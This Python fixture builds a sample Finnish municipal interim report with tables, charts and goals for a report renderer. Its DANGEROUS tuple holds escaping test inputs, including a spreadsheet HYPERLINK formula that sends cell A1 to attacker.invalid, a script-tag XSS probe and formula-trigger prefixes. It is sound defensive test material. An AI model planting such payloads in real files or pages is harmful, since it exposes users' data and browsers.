"""A report made by hand: every kind of block, chart, row and cell, and texts that mean something to a program."""

from __future__ import annotations

from datetime import UTC, date, datetime
from decimal import Decimal
from typing import TYPE_CHECKING, Literal

from projections.report.content.document import (
    Block,
    Bullets,
    Callout,
    Cell,
    Column,
    Document,
    Fact,
    Facts,
    Interface,
    NumberForm,
    Paragraph,
    Picture,
    Row,
    Run,
    Section,
    Table,
    Tone,
)
from projections.report.content.picture_data import (
    Cumulative,
    GoalsByStatus,
    IncomeAndExpenses,
    PictureData,
    ProjectProgress,
    UseOfBudget,
)

if TYPE_CHECKING:
    from projections.report.language.statuses import GoalStatus

DANGEROUS = (
    '=HYPERLINK("https://attacker.invalid/?"&A1;"Avaa")',
    "+1",
    "-",
    "@x",
    "\tsarkain ensin",
    "<script>alert('x')</script>",
    "a | b",
    "# ei otsikko, *ei* _korostus_, `ei koodi`, [ei](linkki)",
    "AT&T < 5 > 3 \"lainaus\" 'puolilainaus'",
    "ensimmäinen rivi\ntoinen rivi",
    "_x000D_ ja &amp; ja {{ muuttuja }}",
    "\uff1d1+1",
    "0042",
)
"""Texts that somebody may record, and that mean something to a spreadsheet, a browser, Markdown or a template."""
LONG_NAME = "Hyvinvointi- ja terveydenedistämispalvelujen lastensuojeluasiantuntijakoordinaatioyksikkö"
UNKNOWN = Cell(text="–", tone="muted")
_LANGUAGES = ("fi", "sv", "en")


def sample_document(language: str = "fi") -> Document:
    """Return the report in Finnish, Swedish or English; what people recorded is in Finnish in each of them."""
    say = _Words(language)
    return Document(
        language=language,
        title=say("Osavuosikatsaus 1.4.–30.6.2020", "Delårsrapport 1.4.–30.6.2020", "Interim report 1.4.–30.6.2020"),
        city="Mallikylä",
        subject="Hyvinvointitoimiala",
        subject_language=None if language == "fi" else "fi",
        period="1.4.–30.6.2020",
        cover=_cover(say),
        summary=_summary(say),
        sections=(_figures(say), _goals(say), _projects(say), _kinds(say), _making(say)),
        interface=_interface(say),
        written=datetime(2020, 8, 15, 9, 30, 12, 345678, tzinfo=UTC),
        identity="5f" * 32,
    )


class _Words:
    """The words and numbers of one language."""

    def __init__(self, language: str) -> None:
        self._which = _LANGUAGES.index(language)

    def __call__(self, fi: str, sv: str, en: str) -> str:
        return (fi, sv, en)[self._which]

    def number(self, value: Decimal, decimals: int) -> str:
        text = f"{value:,.{decimals}f}"
        return text if self._which == 2 else text.translate({ord(","): "\u00a0", ord("."): ",", ord("-"): "−"})


def _interface(say: _Words) -> Interface:
    return Interface(
        contents=say("Sisällys", "Innehåll", "Contents"),
        summary=say("Tiivistelmä", "Sammandrag", "Summary"),
        page=say("Sivu", "Sida", "Page"),
        page_of="/",
        skip_to_content=say("Siirry sisältöön", "Gå till innehållet", "Skip to content"),
        show_table=say("Näytä taulukkona", "Visa som tabell", "Show as a table"),
        picture=say("Kuva", "Bild", "Figure"),
        table=say("Taulukko", "Tabell", "Table"),
        unit_code=say("Yksikön koodi", "Enhetens kod", "Unit code"),
        unit_name=say("Yksikkö", "Enhet", "Unit"),
    )


def _cover(say: _Words) -> Facts:
    return Facts(
        facts=(
            Fact(name=say("Kausi", "Period", "Period"), value="1.4.–30.6.2020"),
            Fact(name=say("Vastuuhenkilö", "Ansvarig", "Responsible"), value="hyvinvointijohtaja", language="fi"),
            Fact(
                name=say("Tiedot sellaisina kuin", "Uppgifterna som de var", "Figures as known"), value="15.8.2020 9.30"
            ),
            Fact(name=say("Julkaistu", "Publicerad", "Published"), value=say("ei", "nej", "no")),
            Fact(name=say("Tunniste", "Identifikation", "Identity"), value="5f" * 32, machine=True),
        )
    )


def _summary(say: _Words) -> tuple[Block, ...]:
    return (
        Paragraph(
            runs=(
                Run(say("Menoista on käytetty ", "Av utgifterna har använts ", "Of the expenses ")),
                Run(say("48,90 %", "48,90 %", "48.90%"), strong=True),
                Run(say(", tasainen kertymä on 50 %.", ", jämn takt är 50 %.", " are used; even use is 50%.")),
            ),
            style="lead",
        ),
        Callout(
            title=say("Huomattavaa", "Att märka", "To be noted"),
            tone="attention",
            blocks=(
                Paragraph(runs=(Run(say("Kaksi yksikköä ylittää.", "Två enheter överskrider.", "Two units exceed.")),)),
                Bullets(
                    items=(
                        (Run("Esiopetus", strong=True), Run(": 61,20 %")),
                        (Run(LONG_NAME), Run(": 55,01 %")),
                    ),
                    language="fi",
                ),
            ),
        ),
        Callout(
            title=say("Hyvin menee", "Går väl", "Going well"),
            tone="good",
            blocks=(Paragraph(runs=(Run("Viisi tavoitetta kuudesta on saavutettu."),), language="fi"),),
        ),
    )


# ---------------------------------------------------------------- figures


def _figures(say: _Words) -> Section:
    return Section(
        key="luvut",
        title=say("Luvut", "Siffror", "Figures"),
        new_page=True,
        blocks=(_use_of_budget(say), _table_of_lines(say, "410", "Varhaiskasvatus", Decimal(1))),
        sections=(
            Section(
                key="yksikko-4100",
                title="Perusopetus",
                language="fi",
                blocks=(
                    Facts(facts=(Fact(name=say("Vastuuhenkilö", "Ansvarig", "Responsible"), value="rehtori"),)),
                    _table_of_lines(say, "0410", LONG_NAME, Decimal("0.37")),
                    Picture(
                        key="kuva-kuukausittain",
                        caption=say("Kertymä kuukausittain", "Utfall per månad", "Actuals by month"),
                        alternative=say(
                            "Menot ovat kesäkuussa 1 050 000 euroa, hieman alle viime vuoden.",
                            "Utgifterna är 1 050 000 euro i juni, något under fjolåret.",
                            "Expenses are 1,050,000 euros in June, a little below last year.",
                        ),
                        chart=_cumulative(),
                        table_key="luvut-0410",
                    ),
                ),
                sections=(
                    Section(
                        key="yksikko-4100-tekstit",
                        title=say("Toiminnan kuvaus", "Verksamheten", "Activities"),
                        blocks=_texts(),
                        listed=False,
                    ),
                ),
            ),
        ),
    )


def _texts() -> tuple[Block, ...]:
    return (
        Paragraph(runs=(Run("Etäopetuksessa oli keväällä 1 240 oppilasta; lähiopetukseen palattiin 14.5."),)),
        Paragraph(runs=(Run("Undervisningen på svenska ordnades i samarbete med grannkommunen."),), language="sv"),
        Paragraph(runs=(Run("The English-language class started with 22 pupils."),), language="en"),
        Paragraph(runs=(Run("Luvut ovat kertymiä vuoden alusta."),), style="note"),
        Paragraph(runs=(Run("Toimenpiteet"),), style="label"),
        Bullets(
            numbered=True,
            items=((Run("Tilat kartoitetaan."),), (Run("Sijaiset "), Run("rekrytoidaan", strong=True), Run("."))),
        ),
        Bullets(items=tuple((Run(text.replace("\n", " ")),) for text in DANGEROUS)),
    )


_LINES: tuple[tuple[str, Literal["normal", "total", "part"], str | None, str | None], ...] = (
    ("TULOT", "total", "802000.00", "948252.35"),
    ("Myyntituotot", "part", "500000.50", "640000.00"),
    ("Maksutuotot", "part", None, "308252.35"),
    ("MENOT", "total", "-37145000.00", "-18163000.01"),
    ("Henkilöstökulut", "part", "-30000000.00", "-15000000.00"),
    ("Palvelujen ostot", "part", "-7145000.00", "-3163000.01"),
    ("NETTO", "total", "-36343000.00", "-17214747.66"),
)


def _table_of_lines(say: _Words, code: str, name: str, factor: Decimal) -> Table:
    thousands = say("1\u00a0000\u00a0€", "1\u00a0000\u00a0€", "€1,000")
    return Table(
        key=f"luvut-{code}",
        caption=f"{say('Luvut', 'Siffror', 'Figures')}, {thousands}",
        columns=(
            Column(title=say("Tili", "Rad", "Line"), share=3),
            Column(title=f"TA 2020\n{thousands}", numeric=True, sheet_title="TA 2020, €"),
            Column(title=f"TOT 2020 6 kk\n{thousands}", numeric=True, sheet_title="TOT 2020 6 kk, €"),
            Column(title="TOT-20\n%", numeric=True),
        ),
        rows=tuple(_line(say, label, kind, budget, actual, factor) for label, kind, budget, actual in _LINES),
        sheet=say("Luvut", "Siffror", "Figures"),
        place=(code, name),
        note=say("Tieto puuttuu: –", "Uppgift saknas: –", "Unknown: –"),
    )


def _line(
    say: _Words,
    label: str,
    kind: Literal["normal", "total", "part"],
    budget: str | None,
    actual: str | None,
    factor: Decimal,
) -> Row:
    of_budget = None if budget is None else (Decimal(budget) * factor).quantize(Decimal("0.01"))
    of_actual = None if actual is None else (Decimal(actual) * factor).quantize(Decimal("0.01"))
    percent = None if of_budget is None or of_actual is None else of_actual / of_budget * 100
    return Row(
        kind=kind,
        cells=(
            Cell(text=label, language="fi"),
            _thousands(say, of_budget),
            _thousands(say, of_actual),
            UNKNOWN if percent is None else _percent(say, percent.quantize(Decimal("0.01"))),
        ),
    )


def _thousands(say: _Words, euros: Decimal | None) -> Cell:
    if euros is None:
        return UNKNOWN
    return Cell(text=say.number(euros / 1000, 0), value=euros, form="thousands")


def _percent(say: _Words, percent: Decimal, tone: Tone | None = None) -> Cell:
    return Cell(text=say.number(percent, 2), value=percent, form="percent", tone=tone)


def _use_of_budget(say: _Words) -> Picture:
    used = Column(title=say("Käytetty, %", "Använt, %", "Used, %"), numeric=True)
    before = Column(title=say("Viime vuonna, %", "I fjol, %", "Last year, %"), numeric=True)
    bars: tuple[tuple[str, Decimal, Decimal | None], ...] = (
        ("Esiopetus", Decimal("61.20"), Decimal("49.75")),
        (LONG_NAME, Decimal("55.01"), None),
        ("Varhaiskasvatus", Decimal("48.90"), Decimal("50.10")),
        ("Toinen aste", Decimal("-3.25"), Decimal("103.40")),
    )
    return Picture(
        key="kuva-kaytto",
        caption=say("Talousarvion käyttö", "Användning av budgeten", "Use of the budget"),
        alternative=say(
            "Esiopetus on käyttänyt eniten, 61,20 % talousarviostaan. Tasainen kertymä olisi 50 %.",
            "Förskoleundervisningen har använt mest, 61,20 % av sin budget. Jämn takt vore 50 %.",
            "Preschool has used most, 61.20% of its budget. Even use would be 50%.",
        ),
        chart=UseOfBudget(
            expected=Decimal(50),
            expected_label=say("Tasainen kertymä 50 %", "Jämn takt 50 %", "Even use 50%"),
            used_label=say("Käytetty talousarviosta", "Använt av budgeten", "Used of the budget"),
            last_year_label=say("Viime vuonna samaan aikaan", "I fjol vid samma tid", "Last year at the same time"),
            axis=say("% talousarviosta", "% av budgeten", "% of the budget"),
            bars=bars,
        ),
        table=Table(
            key="kaytto",
            caption=say("Talousarvion käyttö, %", "Användning av budgeten, %", "Use of the budget, %"),
            columns=(Column(title=say("Yksikkö", "Enhet", "Unit"), share=3), used, before),
            rows=tuple(
                Row(
                    cells=(
                        Cell(text=label, language="fi"),
                        _percent(say, now, "bad" if now > 60 else "good"),
                        UNKNOWN if last is None else _percent(say, last),
                    )
                )
                for label, now, last in bars
            ),
            sheet=say("Käyttö", "Användning", "Use"),
        ),
    )


def _cumulative() -> Cumulative:
    return Cumulative(
        axis="1\u00a0000\u00a0€",
        months=("tammi", "helmi", "maalis", "huhti", "touko", "kesä"),
        lines=(
            ("Toteuma 2020", (Decimal(170), Decimal(342), Decimal(520), Decimal(699), None, Decimal(1050))),
            ("Toteuma 2019", tuple(Decimal(180 * month) for month in range(1, 7))),
        ),
        even=("Tasainen kertymä", tuple(Decimal(179 * month) for month in range(1, 7))),
    )


# ---------------------------------------------------------------- goals


def _goals(say: _Words) -> Section:
    statuses: tuple[tuple[GoalStatus, str], ...] = (
        ("achieved", say("saavutettu", "uppnått", "achieved")),
        ("in_progress", say("kesken", "pågår", "in progress")),
        ("delayed", say("myöhässä", "försenat", "delayed")),
        ("unknown", say("ei tietoa", "okänt", "unknown")),
    )
    return Section(
        key="tavoitteet",
        title=say("Tavoitteet", "Mål", "Goals"),
        blocks=(
            Picture(
                key="kuva-tavoitteet",
                caption=say("Tavoitteet tilan mukaan", "Målen enligt läge", "Goals by status"),
                alternative=say("Viisi on saavutettu.", "Fem har uppnåtts.", "Five are achieved."),
                chart=GoalsByStatus(
                    axis=say("tavoitteita", "mål", "goals"),
                    statuses=statuses,
                    bars=(("Varhaiskasvatus", (3, 1, 0, 0)), (LONG_NAME, (2, 2, 1, 1)), ("Kaikki", (5, 3, 1, 1))),
                ),
                table_key="tavoitteet-410",
            ),
            _table_of_goals(say, "410", "Varhaiskasvatus"),
            _table_of_goals(say, "0410", LONG_NAME),
        ),
    )


def _table_of_goals(say: _Words, code: str, name: str) -> Table:
    achieved = Cell(text=say("saavutettu", "uppnått", "achieved"), tone="good")
    delayed = Cell(text=say("myöhässä", "försenat", "delayed"), tone="bad")
    long_text = "Mittari on tarkistettu ja uusi lähtötaso kirjattu. " * 8
    return Table(
        key=f"tavoitteet-{code}",
        caption=say("Tavoitteet", "Mål", "Goals"),
        columns=(
            Column(title=say("Sitova tavoite", "Bindande mål", "Binding goal"), share=3),
            Column(title=say("Mittari", "Mätare", "Metric"), share=2),
            Column(title=say("Tila", "Läge", "Status")),
            Column(title=say("Toteuma", "Utfall", "Outcome"), share=3),
        ),
        rows=(
            _group(say("Tavoiteohjelma", "Målprogram", "Goal programme") + ": Elinvoimainen kaupunki", 4),
            _group("Kaikki oppivat", 4, 2),
            Row(cells=(Cell(text="Hakijat"), Cell(text="määrä"), achieved, Cell(text="1 240 hakijaa"))),
            Row(cells=(Cell(text="Palaute"), Cell(text="keskiarvo ≥ 4"), delayed, Cell(text=long_text.strip()))),
            _group("Hyvinvoiva kuntalainen", 4),
            _group("Kaikki liikkuvat", 4, 2),
            Row(cells=(Cell(text="Terveet päivät"), Cell(text="%"), UNKNOWN, Cell(text="Ei tietoa", tone="muted"))),
        ),
        sheet=say("Tavoitteet", "Mål", "Goals"),
        place=(code, name),
        group_titles=(say("Tavoiteohjelma", "Målprogram", "Goal programme"), say("Tavoite", "Mål", "Goal")),
    )


def _group(heading: str, columns: int, level: Literal[1, 2] = 1) -> Row:
    return Row(
        kind="group",
        level=level,
        cells=(Cell(text=heading, language="fi"), *(Cell(text="") for _ in range(columns - 1))),
    )


# ---------------------------------------------------------------- projects and lines


def _projects(say: _Words) -> Section:
    return Section(
        key="hankkeet",
        title=say("Hankkeet ja investoinnit", "Projekt och investeringar", "Projects and investments"),
        new_page=True,
        blocks=(
            Picture(
                key="kuva-hankkeet",
                caption=say("Hankkeiden eteneminen", "Projektens framsteg", "Progress of projects"),
                alternative=say("Koulu etenee.", "Skolan framskrider.", "The school proceeds."),
                chart=_progress(say),
                table_key="hankkeet-taulukko",
            ),
            _table_of_projects(say),
            Picture(
                key="kuva-tulot-ja-menot",
                caption=say("Tulot ja menot", "Inkomster och utgifter", "Income and expenses"),
                alternative=say("Henkilöstö vie eniten.", "Personalen tar mest.", "Personnel takes most."),
                chart=_income_and_expenses(say),
                table_key="luvut-410",
            ),
        ),
    )


def _progress(say: _Words) -> PictureData:
    return ProjectProgress(
        axis="%",
        progress_label=say("Edistyminen", "Framsteg", "Progress"),
        time_label=say("Kulunut aika", "Förfluten tid", "Time gone"),
        bars=(
            ("Koulukeskuksen uudisrakennus", Decimal("29.2"), Decimal(50)),
            ("Digipolku", None, Decimal("12.5")),
            ("Kaksikielinen päiväkoti", Decimal(100), None),
        ),
    )


def _income_and_expenses(say: _Words) -> PictureData:
    return IncomeAndExpenses(
        axis="1\u00a0000\u00a0€",
        budget_label=say("Talousarvio", "Budget", "Budget"),
        actual_label=say("Toteuma", "Utfall", "Actual"),
        last_year_label=say("Toteuma vuotta aiemmin", "Utfall ett år tidigare", "Actual a year before"),
        groups=(
            (
                say("Tulot", "Inkomster", "Income"),
                (
                    ("Myyntituotot", Decimal(500), Decimal(640), Decimal(610)),
                    ("Maksutuotot", None, Decimal("308.3"), None),
                ),
            ),
            (
                say("Menot", "Utgifter", "Expenses"),
                (
                    ("Henkilöstökulut", Decimal(30000), Decimal(15000), Decimal(14800)),
                    ("Palvelujen ostot", Decimal(7145), Decimal(3163), Decimal(3301)),
                ),
            ),
        ),
    )


def _table_of_projects(say: _Words) -> Table:
    return Table(
        key="hankkeet-taulukko",
        caption=say("Hankkeet, €", "Projekt, €", "Projects, €"),
        columns=(
            Column(title=say("Hanke", "Projekt", "Project"), share=3),
            Column(title=say("Alkaa", "Börjar", "Starts")),
            Column(title=say("Päättyy", "Slutar", "Ends")),
            Column(title=say("Edistyminen, %", "Framsteg, %", "Progress, %"), numeric=True),
            Column(title=say("Kaupungin osuus, €", "Stadens andel, €", "City share, €"), numeric=True),
        ),
        rows=(
            Row(
                cells=(
                    Cell(text="Koulukeskuksen uudisrakennus", language="fi"),
                    Cell(text="1.1.2019", value=date(2019, 1, 1), form="date"),
                    Cell(text="31.12.2021", value=date(2021, 12, 31), form="date"),
                    _percent(say, Decimal("29.20"), "attention"),
                    _amount(say, Decimal(12500000), "euros"),
                )
            ),
            Row(
                cells=(
                    Cell(text="Digipolku <2020 & 2021>", language="fi"),
                    Cell(text="1.3.2020", value=date(2020, 3, 1), form="date"),
                    UNKNOWN,
                    UNKNOWN,
                    _amount(say, Decimal("-0.01"), "cents"),
                )
            ),
        ),
        sheet=say("Hankkeet", "Projekt", "Projects"),
    )


def _amount(say: _Words, euros: Decimal, form: NumberForm) -> Cell:
    return Cell(text=say.number(euros, 2 if form == "cents" else 0), value=euros, form=form)


def _kinds(say: _Words) -> Section:
    return Section(
        key="solut",
        title=say("Kaikenlaisia soluja", "Celler av alla slag", "Cells of all kinds"),
        blocks=(
            Table(
                key="solut-taulukko",
                caption=say("Kaikenlaisia soluja", "Celler av alla slag", "Cells of all kinds"),
                columns=(
                    Column(title=say("Teksti", "Text", "Text"), share=2),
                    Column(title=say("Luku", "Tal", "Number"), numeric=True),
                ),
                rows=tuple(
                    Row(cells=(Cell(text=text), cell)) for text, cell in zip(DANGEROUS, _cells(say), strict=True)
                ),
                sheet=say("Solut: [kaikki] / muut?", "Celler: [alla] / andra?", "Cells: [all] / others?"),
            ),
        ),
    )


def _cells(say: _Words) -> tuple[Cell, ...]:
    return (
        _amount(say, Decimal(1234567), "euros"),
        _amount(say, Decimal("-1234567.89"), "cents"),
        _amount(say, Decimal("99999999999.99"), "cents"),
        _thousands(say, Decimal("-499.99")),
        _thousands(say, Decimal("12345678.90")),
        _percent(say, Decimal("63.34"), "attention"),
        _percent(say, Decimal("118.23"), "good"),
        Cell(text="1240", value=1240, form="plain"),
        Cell(text=say.number(Decimal("4.5"), 1), value=Decimal("4.5"), form="plain"),
        Cell(text="29.2.2020", value=date(2020, 2, 29), form="date"),
        _amount(say, Decimal(0), "euros"),
        UNKNOWN,
        Cell(text=say("ei tietoa", "okänt", "unknown"), tone="muted"),
    )


def _making(say: _Words) -> Section:
    return Section(
        key="laadinta",
        title=say("Näin raportti on tehty", "Så gjordes rapporten", "How this report was made"),
        blocks=(
            Paragraph(runs=(Run(say("Luvut on laskettu kirjauksista.", "Ur bokföringen.", "From the records.")),)),
            Facts(
                facts=(
                    Fact(name=say("Kirjauksia", "Händelser", "Events"), value="1234"),
                    Fact(name="SHA-256", value="5f" * 32, machine=True),
                )
            ),
            Callout(
                title=say("Poikkeamat", "Avvikelser", "Differences"),
                tone="bad",
                blocks=(Paragraph(runs=(Run("Osien summa eroaa loppusummasta 1\u00a0000 €."),), language="fi"),),
            ),
            Callout(
                title=say("Huomautus", "Anmärkning", "Note"),
                tone="muted",
                blocks=(Paragraph(runs=(Run(say("Ei muuta.", "Inget annat.", "Nothing else.")),)),),
            ),
        ),
    )
